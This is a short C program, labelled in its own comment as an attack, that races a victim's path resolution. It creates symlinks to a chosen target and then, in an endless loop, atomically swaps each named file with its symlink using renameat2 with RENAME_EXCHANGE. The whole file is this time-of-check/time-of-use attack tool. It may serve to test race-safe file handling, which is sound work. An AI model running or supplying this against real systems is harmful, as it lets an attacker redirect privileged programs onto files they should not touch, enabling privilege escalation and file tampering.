/* Swaps names in a folder with symlinks, as quickly as it can, until it is killed: the attack on whoever resolves a
 * path twice. swap FOLDER TARGET NAME... */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 4 || chdir(argv[1]) < 0) return 2;
    for (int i = 3; i < argc; i++) {
        char name[300];
        snprintf(name, sizeof name, "%s.link", argv[i]);
        if (symlink(argv[2], name) < 0 && access(argv[1], F_OK) < 0) return 3;
    }
    puts("swapping");
    fflush(stdout);
    for (;;)
        for (int i = 3; i < argc; i++) {
            char name[300];
            snprintf(name, sizeof name, "%s.link", argv[i]);
            renameat2(AT_FDCWD, argv[i], AT_FDCWD, name, RENAME_EXCHANGE);
        }
}
